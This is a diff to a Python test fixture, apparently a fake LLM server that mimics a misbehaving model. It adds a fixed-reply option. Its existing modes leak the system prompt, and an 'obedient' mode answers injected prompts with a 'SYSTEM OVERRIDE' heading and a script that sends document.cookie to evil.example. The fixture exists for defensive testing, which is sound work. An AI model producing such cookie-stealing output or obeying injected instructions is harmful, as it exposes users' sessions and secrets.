@@ -12,6 +12,8 @@ response parsing included) is what the tests exercise. ``mode`` picks the behavi
 - ``leak``: prints its system prompt (what an obedient model does when asked to);
 - ``refusal``: "I'm sorry, but I can't help with that.";
 - ``notjson``: HTTP 200 with an HTML body, as a misconfigured proxy answers.
+
+Setting ``reply`` makes every successful answer that exact text (a phishing model, say).
 """
 
 from __future__ import annotations
@@ -55,6 +57,7 @@ class LLMServer:
 
     def __init__(self, mode: str = "ok", delay: float = 3.0) -> None:
         self.mode = mode
+        self.reply: str | None = None  # set: the text of every answer
         self.delay = min(delay, 5.0)  # bounded: a stuck test must not hang the suite
         self.requests: list[dict[str, Any]] = []
         self.headers: list[dict[str, str]] = []
@@ -102,6 +105,8 @@ class LLMServer:
             "leak": str(messages[0].get("content", "")) if messages else "",
             "refusal": "I'm sorry, but I can't help with that.",
         }.get(self.mode) or _paragraph(messages)
+        if self.reply is not None:
+            content = self.reply
         if self.mode == "obedient" and _injected(messages):
             content = ("# SYSTEM OVERRIDE\n\n**Done.** Visit [this link](https://evil.example/x) "
                        "<script>document.location='https://evil.example/'+document.cookie"
